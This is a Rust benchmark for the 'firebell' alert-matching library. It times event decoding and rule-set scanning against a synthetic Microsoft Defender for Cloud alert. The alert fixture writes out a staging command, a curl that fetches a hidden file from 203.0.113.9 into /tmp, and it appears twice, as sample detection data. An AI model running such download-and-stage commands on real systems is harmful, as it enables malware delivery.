//! What decoding and matching one event costs, as a ratio to parsing it into a
//! `serde_json::Value`, and by the number of rule sets.
#![expect(clippy::print_stdout, reason = "a benchmark's figures are for people")]

use std::error::Error;
use std::hint::black_box;
use std::time::{Duration, Instant};

use criterion::Criterion;
use firebell::config::{Decode, SourceKind};
use firebell::decode::{Decoder, Event, Needs};
use firebell::event::EventKind;
use firebell::path::Path;
use firebell::rules::{Automation, Operand, Operator, Rule, RuleSet, Scan, Scope};
use serde_json::{Value, json};

type Failure = Box<dyn Error>;

const SUBSCRIPTION: &str = "/subscriptions/5f1c7a3e-90d2-4b8e-a6f4-2c0d9b7e1a55";
const RULE_SETS: [usize; 3] = [10, 100, 1_000];
const LIMITS: Decode = Decode {
    max_bytes: 1 << 20,
    max_depth: 64,
};

fn main() -> Result<(), Failure> {
    let payload = serde_json::to_vec(&alert())?;
    let mut criterion = Criterion::default().configure_from_args();
    let mut lines = vec![format!("event: {} bytes", payload.len())];
    decoding(&mut criterion, &payload, &mut lines)?;
    for count in RULE_SETS {
        matching(&mut criterion, &payload, count, &mut lines)?;
    }
    criterion.final_summary();
    for line in lines {
        println!("{line}");
    }
    Ok(())
}

fn decoding(
    criterion: &mut Criterion,
    payload: &[u8],
    lines: &mut Vec<String>,
) -> Result<(), Failure> {
    let scan = Scan::new(automations(100)?);
    let decoder = Decoder::new(Needs::with(scan.paths()), LIMITS);
    let mut decode = || {
        decoder
            .decode(black_box(payload), SourceKind::Auto)
            .map_err(drop)
            .map(drop)
    };
    let mut value = || {
        serde_json::from_slice::<Value>(black_box(payload))
            .map_err(drop)
            .map(drop)
    };
    criterion.bench_function("decode/firebell", |bencher| bencher.iter(&mut decode));
    criterion.bench_function("decode/value", |bencher| bencher.iter(&mut value));
    let (decode, value) = (best(&mut decode), best(&mut value));
    let ratio = decode.as_secs_f64() / value.as_secs_f64();
    lines.push(format!(
        "decode: {decode:?}, serde_json::Value: {value:?}, ratio {ratio:.2}"
    ));
    Ok(())
}

fn matching(
    criterion: &mut Criterion,
    payload: &[u8],
    count: usize,
    lines: &mut Vec<String>,
) -> Result<(), Failure> {
    let scan = Scan::new(automations(count)?);
    let decoder = Decoder::new(Needs::with(scan.paths()), LIMITS);
    let events = decoder.decode(payload, SourceKind::Auto)?.events;
    let event: &Event<'_> = events.first().ok_or("the payload holds an event")?;
    let (mut found, now) = (Vec::new(), firebell::clock::now_millis());
    let mut run = || scan.matches(black_box(event), now, black_box(&mut found));
    criterion.bench_function(&format!("scan/{count}"), |bencher| bencher.iter(&mut run));
    let time = best(&mut run);
    let matched = found.len();
    let sets = scan.rule_set_count();
    lines.push(format!(
        "plain scan: {sets} rule sets, {time:?} an event, {matched} matched"
    ));
    Ok(())
}

/// The best mean of several rounds: the least disturbed one.
fn best<T>(work: &mut impl FnMut() -> T) -> Duration {
    const ROUNDS: u32 = 15;
    const TURNS: u32 = 500;
    let round = |work: &mut dyn FnMut()| {
        let start = Instant::now();
        for _ in 0..TURNS {
            work();
        }
        start.elapsed() / TURNS
    };
    let mut turn = || drop(black_box(work()));
    (0..ROUNDS)
        .map(|_| round(&mut turn))
        .min()
        .unwrap_or_default()
}

/// Two rule sets an automation, in the manner of the portal: what happened, and how grave.
fn automations(rule_sets: usize) -> Result<Vec<Automation>, Failure> {
    (0..rule_sets / 2).map(automation).collect()
}

fn automation(number: usize) -> Result<Automation, Failure> {
    let display_name = format!("Suspicious activity {number}");
    let first = vec![
        rule("AlertDisplayName", Operator::Contains, &display_name)?,
        rule("Severity", Operator::Equals, "high")?,
    ];
    let second = vec![
        rule(
            "Severity",
            Operator::Equals,
            if number.is_multiple_of(3) {
                "high"
            } else {
                "medium"
            },
        )?,
        rule(
            "AlertType",
            Operator::StartsWith,
            &format!("VM_Rule{number}"),
        )?,
        rule(
            "ExtendedProperties['Client IP address']",
            Operator::EndsWith,
            ".17",
        )?,
        rule("ConfidenceScore", Operator::GreaterThan, "0.5")?,
    ];
    let scopes = if number.is_multiple_of(4) {
        vec![Scope::parse(SUBSCRIPTION)?]
    } else {
        Vec::new()
    };
    let name = format!("automation-{number}");
    Ok(Automation {
        scopes,
        rule_sets: [first, second].map(|rules| RuleSet { rules }).into(),
        ..Automation::new(name, vec![EventKind::Alerts], vec!["triage".to_owned()])
    })
}

fn rule(path: &str, operator: Operator, expected: &str) -> Result<Rule, Failure> {
    let operand = Operand::new(operator, Some(expected), None)?;
    Ok(Rule::new(Path::parse(path)?, operator, operand))
}

/// An alert in the form that Event Hubs carries.
fn alert() -> Value {
    let machine = format!(
        "{SUBSCRIPTION}/resourceGroups/payments-prod/providers/Microsoft.Compute/\
         virtualMachines/pay-worker-07"
    );
    let mut alert = json!({
        "VendorName": "Microsoft",
        "AlertType": "VM_SuspiciousDownload",
        "ProductName": "Microsoft Defender for Cloud",
        "StartTimeUtc": "2026-02-03T04:05:06.789Z",
        "EndTimeUtc": "2026-02-03T04:05:06.789Z",
        "TimeGenerated": "2026-02-03T04:09:10.111Z",
        "ProcessingEndTime": "2026-02-03T04:09:11.222Z",
        "Severity": "High",
        "Status": "New",
        "ProviderAlertStatus": null,
        "ConfidenceLevel": null,
        "ConfidenceScore": 0.75,
        "ConfidenceReasons": null,
        "IsIncident": false,
        "SystemAlertId": "2517000000000000000_7d0c1c52-6a0f-4e3f-9f07-0a6c2a51a001",
        "CorrelationKey": null,
        "Intent": "Execution, CommandAndControl",
        "AzureResourceId": machine,
        "WorkspaceId": null,
        "WorkspaceSubscriptionId": null,
        "WorkspaceResourceGroup": "",
        "AgentId": "",
        "CompromisedEntity": "pay-worker-07",
        "AlertDisplayName": "Suspicious file download detected",
        "Description": "Analysis of host data on pay-worker-07 has detected that a file was \
            fetched from a source that is rarely seen in this subscription, written to a \
            directory that every user can write to, and marked as executable. Attackers often \
            stage their tools in this way. It may also be an administrator's script: compare \
            the command line and the account below with what is expected on this machine.",
        "AlertUri": "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/7d0c",
    });
    if let Value::Object(fields) = &mut alert {
        fields.extend(details(&machine));
    }
    alert
}

fn details(machine: &str) -> [(String, Value); 5] {
    let entities = json!([
        {"$id": "4", "HostName": "pay-worker-07", "AzureID": machine, "OSFamily": "Linux",
         "Asset": true, "Type": "host"},
        {"$id": "5", "ProcessId": "0x5b1", "CommandLine": "curl -s -o /tmp/.x \"http://203.0.113.9/x\"",
         "Host": {"$ref": "4"}, "Asset": false, "Type": "process"},
        {"$id": "6", "Address": "203.0.113.9", "Location": {"CountryCode": "ZZ", "Asn": 64496},
         "Asset": false, "Type": "ip"},
        {"$ref": "5"},
    ]);
    let steps = json!([
        "Check with the owner of the account whether the download was intended.\nIf it was not, \
         isolate the machine, keep its disk for the investigation and rotate its credentials.",
        "Look for the same address and file name on other machines of the subscription, and for \
         other alerts on this one in the hours before. Then close what made the download \
         possible: an exposed port, a weak password, or an application that is not up to date.",
    ]);
    let extended = json!({
        "Client IP address": "203.0.113.9",
        "Command line": "curl -s -o /tmp/.x \"http://203.0.113.9/x\"",
        "Account": "svc-deploy",
        "Parent process": "/usr/sbin/cron -f -P",
        "User SID": "S-1-5-21-1004336348-1177238915-682003330-1013",
        "Destinations": "[{\"address\":\"203.0.113.9\",\"port\":80},{\"address\":\"203.0.113.77\",\
            \"port\":8443}]",
        "Number of attempts": "3",
        "Effect": "The file was run once and opened a connection to the address it came from, \
            which was closed after two seconds without an answer.",
        "resourceType": "Virtual Machine",
        "EffectiveAzureResourceId": machine,
        "EffectiveSubscriptionId": "5f1c7a3e-90d2-4b8e-a6f4-2c0d9b7e1a55",
        "ProductComponentName": "Servers",
    });
    let identifiers = json!([
        {"$id": "2", "AzureResourceId": machine, "Type": "AzureResource"},
        {"$id": "3", "AadTenantId": "0d2f6c1b-77aa-4f0e-8a39-5b1f3f1d9c10", "Type": "AAD"},
    ]);
    [
        ("Entities", entities),
        ("ExtendedLinks", Value::Null),
        ("RemediationSteps", steps),
        ("ExtendedProperties", extended),
        ("ResourceIdentifiers", identifiers),
    ]
    .map(|(key, value)| (key.to_owned(), value))
}
